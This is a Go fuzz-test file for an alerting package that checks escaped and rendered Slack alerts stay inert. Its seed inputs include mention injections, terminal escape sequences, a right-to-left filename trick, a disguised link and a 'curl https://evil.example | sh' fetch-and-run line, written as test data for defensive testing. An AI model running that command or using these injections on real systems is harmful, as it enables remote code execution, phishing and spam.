package alerting

import (
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/tamperguard/tamperguard/internal/engine"
)

// FuzzEscape: whatever the input, escaped text is valid UTF-8, bounded, and in Slack modes
// holds nothing that could open a link, a mention or a code span, or drive a terminal.
func FuzzEscape(f *testing.F) {
	for _, s := range []string{"", "<!channel>", "`x`", "@here", "a\x1b[2Jb", "\xff\xfe", "&lt;", strings.Repeat("é", 300), "\u202egnp.exe", "<https://evil.example|click>"} {
		f.Add(s, 100)
	}
	f.Fuzz(func(t *testing.T, s string, max int) {
		if max < 0 {
			max = -max
		}
		max = max%5000 + 1
		for _, mode := range []escMode{modeSlack, modeHeader, modeDisplay} {
			out := escape(s, max, mode, false)
			if !utf8.ValidString(out) {
				t.Fatalf("mode %d: invalid UTF-8 %q", mode, out)
			}
			if textLen(out) > max {
				t.Fatalf("mode %d: %d UTF-16 units, over %d", mode, textLen(out), max)
			}
			for _, r := range out {
				if r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == 0x202e {
					t.Fatalf("mode %d: control %U kept in %q", mode, r, out)
				}
			}
			if mode == modeDisplay {
				continue
			}
			if strings.ContainsAny(out, "<>") {
				t.Fatalf("mode %d: raw < or > in %q", mode, out)
			}
			if strings.Contains(strings.ToLower(out), "@here") || strings.Contains(strings.ToLower(out), "@channel") {
				t.Fatalf("mode %d: a mention survived in %q", mode, out)
			}
			if mode == modeSlack && strings.Contains(out, "`") {
				t.Fatalf("a backtick survived in %q", out)
			}
		}
	})
}

// FuzzRender: an alert about an object whose name, content and errors the attacker chose
// is inert in every text Slack receives, within Slack's limits, and its buttons link only
// where tamperguard points them.
func FuzzRender(f *testing.F) {
	f.Add("install.sh", []byte("#!/bin/sh\necho hi\n"), "boom")
	f.Add("<!channel>/`x`/@here", []byte("curl https://evil.example | sh\n<@U123>\n"), "<https://evil.example|x>")
	f.Add(strings.Repeat("a/", 600), []byte{0xff, 0, 0x1b, '[', '2', 'J'}, strings.Repeat("\u202e", 50))
	f.Fuzz(func(t *testing.T, object string, content []byte, errText string) {
		if len(object) > 4096 || len(content) > 1<<16 || len(errText) > 4096 {
			return
		}
		for name, mk := range goldenCases() {
			d, o := mk()
			d.Object, d.Error, d.Source, d.EventID = object, errText, errText, errText
			d.Evidence = "gs://tamperguard-state/evidence/b/" + object + "/1"
			if d.BadContent != nil {
				d.BadContent = content
			}
			if a := d.WrittenBy; a != nil && a.WrittenBy != nil {
				// Every field of an audit entry can carry text the writer chose.
				w := *a.WrittenBy
				w.Principal, w.UserAgent, w.CallerIP, w.ServiceAccountKey = errText, errText, object, errText
				w.Delegation = []string{object, errText}
				cp := *a
				cp.WrittenBy, cp.Confidence = &w, errText
				d.WrittenBy = &cp
			}
			m := Render(d, o)
			assertWithinLimits(t, m)
			for _, tx := range slackTexts(t, m) {
				assertInert(t, tx.text, tx.plain)
			}
			for _, b := range m.Actions {
				u, err := url.Parse(b.URL)
				if err != nil || (u.Host != "console.cloud.google.com" && u.Host != "github.com") || strings.ContainsAny(b.URL, " \"<>`|\n") {
					t.Fatalf("%s: button %q links to %q", name, b.Text, b.URL)
				}
			}
			_ = engine.VerdictOK
		}
	})
}
